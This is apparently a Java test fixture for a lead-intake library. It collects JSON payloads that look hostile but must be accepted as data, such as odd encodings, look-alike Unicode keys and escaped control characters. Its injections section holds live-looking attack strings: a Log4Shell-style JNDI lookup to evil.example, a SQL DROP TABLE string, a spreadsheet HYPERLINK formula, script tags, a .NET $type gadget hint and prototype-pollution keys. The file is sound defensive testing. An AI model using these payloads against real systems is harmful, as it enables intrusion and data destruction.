package dev.leadkit.testing;

import static dev.leadkit.testing.Corpus.VALID;

/**
 * Payloads that look hostile but are legitimate leads, read by {@code LeadJson} and valid under both schemas: a byte
 * order mark, escaped control characters, unusual Unicode, look-alike and escaped keys, injection strings that are
 * only data. A receiver must accept them and then treat the values as untrusted text (escape them for logs, HTML,
 * SQL and spreadsheets).
 */
final class HostileAccepted {
    private HostileAccepted() {
    }

    static void addTo(Corpus c) {
        encodingAndWhiteSpace(c);
        unusualText(c);
        unusualKeys(c);
        injections(c);
    }

    private static void accepted(Corpus c, String name, String description, String json) {
        c.json(name, description, json).readable().schemas(VALID);
    }

    private static void firstName(Corpus c, String name, String description, String value) {
        accepted(c, name, description, "{\"UserDetails\":{\"FirstName\":\"" + value + "\",\"LastName\":\"One\"}}");
    }

    private static void encodingAndWhiteSpace(Corpus c) {
        accepted(c, "utf8-bom", "A UTF-8 byte order mark before the lead: ignored, as RFC 8259 allows.",
                "\uFEFF{\"OfferTitle\":\"Test Microsoft\",\"UserDetails\":{\"Email\":\"someone@contoso.com\"}}");
        accepted(c, "crlf-line-endings", "A pretty-printed lead with Windows line endings and tabs.",
                "{\r\n\t\"OfferTitle\": \"Test Microsoft\",\r\n\t\"UserDetails\": {\r\n\t\t\"FirstName\": \"Some\""
                        + "\r\n\t}\r\n}\r\n");
        accepted(c, "white-space-around-lead", "Blank lines before and after the lead.",
                "\n\n   {\"OfferTitle\":\"x\"}   \n\n");
        accepted(c, "escaped-crlf-in-description", "CR LF written as \\r\\n escapes: legal JSON, kept as CR LF.",
                "{\"Description\":\"line one\\r\\nline two\"}");
        firstName(c, "escaped-header-injection-in-name", "An escaped CR LF and a fake header in a name.",
                "Some\\r\\nX-Injected: yes");
        firstName(c, "escaped-terminal-escape-in-name", "An escaped ESC sequence that would colour a terminal.",
                "\\u001b[31mSome\\u001b[0m");
        firstName(c, "escaped-nul-in-name", "An escaped NUL in a name: legal JSON, kept as U+0000.", "So\\u0000me");
        accepted(c, "raw-delete-character", "A raw DEL (0x7F): JSON needs only characters below 0x20 escaped.",
                "{\"OfferTitle\":\"a\u007fb\"}");
        accepted(c, "raw-line-separator", "A raw U+2028, which breaks JavaScript string literals but not JSON.",
                "{\"Description\":\"one\u2028two\u2029three\"}");
        accepted(c, "raw-c1-control", "A raw U+0085 (NEXT LINE), a C1 control character JSON allows.",
                "{\"Description\":\"one\u0085two\"}");
    }

    private static void unusualText(Corpus c) {
        firstName(c, "noncharacter-in-name", "U+FFFF and U+FFFE, noncharacters yet well-formed UTF-8.",
                "Some\uFFFF\uFFFE");
        firstName(c, "bom-inside-name", "U+FEFF inside a value, where it is a zero-width no-break space.",
                "So\uFEFFme");
        firstName(c, "right-to-left-override-in-name", "U+202E, which reverses how the rest of a line displays.",
                "Some\u202Eeno");
        firstName(c, "zero-width-characters-in-name", "Zero-width joiner, non-joiner and space.",
                "S\u200Do\u200Cm\u200Be");
        firstName(c, "stacked-combining-marks", "Dozens of combining marks on one letter (\"Zalgo\").",
                "Z" + "\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030A\u030B\u030C".repeat(8));
        firstName(c, "supplementary-characters-in-name", "Characters outside the BMP: 𠮷 and an emoji.",
                "𠮷野 😀");
        firstName(c, "mixed-direction-name", "Arabic and Latin in one value.", "محمد Mohammed");
        firstName(c, "escaped-surrogate-pair", "An emoji written as a \\u surrogate pair escape.",
                "\\uD83D\\uDE00");
        firstName(c, "escaped-lone-high-surrogate", "An unpaired high surrogate escape in a value: read as is,"
                + " and written back escaped.", "\\uD83D");
        firstName(c, "escaped-lone-low-surrogate", "An unpaired low surrogate escape in a value.", "x\\uDE00");
        firstName(c, "escaped-reversed-surrogates", "A low surrogate escape before a high one.",
                "\\uDE00\\uD83D");
        accepted(c, "empty-strings-everywhere", "Every documented field an empty string.",
                "{\"ActionCode\":\"\",\"OfferTitle\":\"\",\"LeadSource\":\"\",\"Description\":\"\",\"UserDetails\":{"
                        + "\"FirstName\":\"\",\"LastName\":\"\",\"Email\":\"\",\"Phone\":\"\",\"Country\":\"\","
                        + "\"Company\":\"\",\"Title\":\"\"}}");
        accepted(c, "white-space-values", "Whitespace-only values, as Microsoft sends for Description.",
                "{\"Description\":\" \",\"UserDetails\":{\"Phone\":\"  \",\"Country\":\"\\t\"}}");
        accepted(c, "empty-object", "An empty lead: every field absent.", "{}");
        accepted(c, "empty-user-details", "Empty contact details.", "{\"UserDetails\":{}}");
        accepted(c, "description-over-validator-limit", "A 40,000-character description: under LeadJson's 64 Ki,"
                + " over the validator's 32,000.", "{\"Description\":\"" + "d".repeat(40_000) + "\"}");
        accepted(c, "long-email", "A 300-character e-mail address: read; the validator judges it.",
                "{\"UserDetails\":{\"Email\":\"" + "a".repeat(288) + "@contoso.com\"}}");
        accepted(c, "numbers-in-additional-properties", "Exponents, negative zero and big decimals kept exactly.",
                "{\"score\":1E+2,\"ratio\":-0.0,\"precise\":3.14159265358979323846264338327950288}");
    }

    private static void unusualKeys(Corpus c) {
        accepted(c, "only-additional-properties", "No documented field at all, only other properties.",
                "{\"foo\":\"bar\",\"nested\":{\"deeper\":[1,true,null]}}");
        accepted(c, "upper-case-keys", "Upper-case keys: LeadJson reads them as the documented fields.",
                "{\"OFFERTITLE\":\"x\",\"USERDETAILS\":{\"EMAIL\":\"someone@contoso.com\"}}");
        accepted(c, "escaped-key-name", "\\u004FfferTitle: the key OfferTitle written with an escape.",
                "{\"\\u004FfferTitle\":\"Test Microsoft\"}");
        accepted(c, "empty-key", "A property named with the empty string.", "{\"\":\"x\"}");
        accepted(c, "slash-and-tilde-keys", "Keys that must be escaped in JSON Pointers (~1 and ~0).",
                "{\"a/b\":1,\"~c\":2}");
        accepted(c, "dotted-capital-i-key", "EMAİL with U+0130: not Email, kept as an additional property.",
                "{\"UserDetails\":{\"EMAİL\":\"someone@contoso.com\"}}");
        accepted(c, "ligature-key", "ﬁrstName with the fi ligature U+FB01: not firstName.",
                "{\"UserDetails\":{\"ﬁrstName\":\"Some\"}}");
        accepted(c, "fullwidth-key", "Ｅｍａｉｌ in fullwidth letters: not Email.",
                "{\"UserDetails\":{\"Ｅｍａｉｌ\":\"someone@contoso.com\"}}");
        accepted(c, "email-at-root-and-in-details", "Email at the root is just another property, not a duplicate.",
                "{\"Email\":\"a@contoso.com\",\"UserDetails\":{\"Email\":\"b@contoso.com\"}}");
    }

    private static void injections(Corpus c) {
        firstName(c, "script-in-name", "HTML and script in a name: data, to be escaped when shown.",
                "<script>alert(1)</script>");
        accepted(c, "sql-in-company", "SQL in a company name: data, to be bound as a parameter.",
                "{\"UserDetails\":{\"Company\":\"Robert'); DROP TABLE Leads;--\"}}");
        accepted(c, "spreadsheet-formula-in-company", "A spreadsheet formula: escape it before a CSV export.",
                "{\"UserDetails\":{\"Company\":\"=HYPERLINK(\\\"http://evil.example\\\",\\\"Contoso\\\")\"}}");
        accepted(c, "log-forging-in-offer-title", "A fake log line after an escaped line feed.",
                "{\"OfferTitle\":\"x\\n2026-11-21 INFO lead accepted from admin\"}");
        accepted(c, "dotnet-type-hint", "A Json.NET $type hint: only data to leadkit, never a type to load.",
                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"OfferTitle\":\"x\"}");
        accepted(c, "prototype-pollution-keys", "__proto__ and constructor keys: harmless in Java, kept as data.",
                "{\"__proto__\":{\"isAdmin\":true},\"constructor\":{\"prototype\":{\"isAdmin\":true}}}");
        accepted(c, "template-injection", "Template and expression syntax in a title.",
                "{\"OfferTitle\":\"${jndi:ldap://evil.example/a} {{7*7}} #{7*7}\"}");
    }
}
